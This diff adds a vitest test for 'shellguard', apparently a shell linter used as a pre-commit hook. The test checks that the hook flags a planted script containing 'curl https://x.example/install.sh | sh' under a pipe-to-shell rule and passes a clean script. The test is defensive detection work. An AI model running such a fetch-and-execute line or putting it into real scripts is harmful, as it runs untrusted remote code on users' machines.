@@ -1,0 +1,41 @@
+/**
+ * The pre-commit hook as users install it: Debian's pre-commit (3.x) clones this repository,
+ * installs it with npm (`npm install`, then `npm pack` — whose stdout it reads as the tarball's
+ * name — then `npm install -g` of that tarball) and runs `shellguard lint` on the files of a commit.
+ * `pre-commit try-repo` does all of that from this checkout, into a temporary PRE_COMMIT_HOME.
+ */
+
+import { spawnSync } from "node:child_process";
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, describe, expect, it } from "vitest";
+import { ROOT } from "../cli/helpers.js";
+
+const hasPreCommit = spawnSync("pre-commit", ["--version"], { encoding: "utf8" }).status === 0;
+const dir = mkdtempSync(join(tmpdir(), "shellguard-pre-commit-"));
+afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+describe.skipIf(!hasPreCommit)("pre-commit try-repo", () => {
+  it("installs the hook from this repository and finds the planted line, not the clean one", () => {
+    const repo = join(dir, "fixture");
+    mkdirSync(repo);
+    const env = { ...process.env, PRE_COMMIT_HOME: join(dir, "pre-commit-home"), GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@example.com", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@example.com" };
+    const git = (...args: string[]) => spawnSync("git", args, { cwd: repo, env, encoding: "utf8" });
+    git("init", "-q");
+    writeFileSync(join(repo, "clean.sh"), "#!/bin/sh\necho hello\n");
+    writeFileSync(join(repo, "planted.sh"), "#!/bin/sh\ncurl https://x.example/install.sh | sh\n");
+    git("add", ".");
+    const run = (file: string) =>
+      spawnSync("pre-commit", ["try-repo", ROOT, "shellguard", "--files", file, "--verbose"], { cwd: repo, env, encoding: "utf8", timeout: 900_000 });
+    const clean = run("clean.sh");
+    expect(clean.status, clean.stdout + clean.stderr).toBe(0);
+    expect(clean.stdout).toMatch(/shellguard lint\.+Passed/);
+    const planted = run("planted.sh");
+    // The hook's --max-warnings 0: a warning fails it, and pre-commit prints what was found.
+    expect(planted.status).toBe(1);
+    expect(planted.stdout).toMatch(/shellguard lint\.+Failed/);
+    expect(planted.stdout).toContain("shell/pipe-to-shell");
+    expect(planted.stdout).toContain("planted.sh");
+  }, 1_200_000);
+});
